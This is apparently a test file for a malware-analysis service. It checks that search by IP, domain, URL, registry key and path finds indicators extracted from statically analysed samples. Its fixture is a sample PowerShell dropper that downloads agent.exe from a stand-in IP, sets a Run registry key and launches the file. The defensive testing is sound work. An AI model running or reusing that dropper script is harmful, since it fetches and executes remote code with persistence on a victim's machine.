import { readFile } from "node:fs/promises";
import { digestBytes, inspectBytes } from "@fumehood/inspect";
import { afterAll, beforeAll, expect, test } from "vitest";
import { createStaticEngine } from "../engine/index.ts";
import { KEY, openHarness, type Harness } from "../testing/harness.ts";

// What entity search knows of files that were analysed without being run: what they hold, what they mention, where they point.

const SCRIPT = `
# Deploys the agent.
$client = New-Object Net.WebClient
$client.DownloadFile("http://203.0.113.77/stage/agent.exe", "C:\\Users\\Public\\agent.exe")
Invoke-WebRequest -Uri https://cdn.example.com:8443/conf.json -OutFile C:\\ProgramData\\conf.json
New-ItemProperty -Path "HKLM:\\Software\\Example\\Run" -Name agent -Value 1
Start-Process "C:\\Users\\Public\\agent.exe"
`;

const noYara = { scan: () => ({ facts: { ran: false as const, reason: "not in this test" }, limitsReached: [] }) };

let harness: Harness;
let scriptId: string;
let urlId: string;
beforeAll(async () => {
  const inspector = {
    async inspect(path: string, { name }: { name: string }) {
      const bytes = await readFile(path);
      const known = { name, digests: digestBytes(bytes), sizeBytes: bytes.length, startedAt: performance.now() };
      return inspectBytes(bytes, { ...known, yara: noYara });
    },
  };
  harness = await openHarness({ engine: createStaticEngine({ inspector, clock: () => harness.now }) });
  scriptId = await harness.analysed(SCRIPT, { sample_filename: "deploy.ps1" });
  const query = new URLSearchParams({ api_key: KEY, url: "http://login.example.com/owa?next=1" });
  const answer = await harness.sandbox.app.inject({ method: "POST", url: `/api/v2/samples?${query}` });
  while (await harness.sandbox.analyseNext());
  urlId = answer.json().data.id;
});
afterAll(async () => {
  await harness.close();
});

test.each([
  ["url=http://203.0.113.77/stage/agent.exe", "script"],
  ["ip=203.0.113.77", "script"],
  ["ip=203.0.113.0/24", "script"],
  ["domain=cdn.example.com", "script"],
  ["domain=*.example.com", "URL script"],
  ["registry_key=HKEY_LOCAL_MACHINE%5CSoftware%5CExample%5CRun", "script"],
  ["path=C:%5CUsers%5CPublic%5Cagent.exe", "script"],
  ["path_sample=deploy.ps1", "script"],
  ["url=login.example.com", "URL"],
  ["domain=login.example.com", "URL"],
  ["ip_dst=203.0.113.77", ""],
])("%s finds the %s", async (query, expected) => {
  const answer = await harness.get(`/api/v2/samples/search?${query}`);
  const names = answer
    .json()
    .data.items.map(({ sample }: { sample: string }) =>
      sample === scriptId ? "script" : sample === urlId ? "URL" : "",
    );
  expect(names.toSorted()).toEqual(
    expected
      .split(" ")
      .filter((name) => name !== "")
      .toSorted(),
  );
});

test("a URL that a script holds leads to its address, and a domain to its URLs", async () => {
  const { urls } = (await harness.get("/api/v2/ips/203.0.113.77/urls")).json().data;
  expect(urls.map(({ url }: { url: string }) => url)).toEqual(["http://203.0.113.77:80/stage/agent.exe"]);
  const ofDomain = (await harness.get("/api/v2/domains/login.example.com/urls")).json().data.urls;
  expect(ofDomain.map(({ url }: { url: string }) => url)).toContain("http://login.example.com:80/owa?next=1");
});

test("the indicators of a file lead to what their evidence names", async () => {
  const { iocs } = (await harness.get(`/api/v2/samples/${scriptId}/analysis.json`)).json();
  const naming = iocs.filter((ioc: { data: { URL?: string }[] }) => ioc.data.some((row) => row.URL !== undefined));
  expect(naming.length).toBeGreaterThan(0);
  const found = await harness.get(`/api/v2/search/urls?term=ioc&query=${naming[0].ioc}`);
  expect(found.json().data.items.length).toBeGreaterThan(0);
});

test("the submitted file is an artifact with its facts and its threat", async () => {
  const sample = (await harness.get(`/api/v2/samples/${scriptId}`)).json().data;
  const record = (await harness.get(`/api/v2/artifacts/${sample.md5}`)).json().data;
  expect(record).toMatchObject({ sha256: sample.sha256, sha1: sample.sha1, md5: sample.md5, size: SCRIPT.length });
  const threat = (await harness.get(`/api/v2/artifacts/${sample.sha256}/threat`)).json().data;
  const ofSample = (await harness.get(`/api/v2/samples/${scriptId}/threat`)).json().data;
  expect(threat).toMatchObject({ score: ofSample.score, count: ofSample.count, bis: ofSample.bis });
});
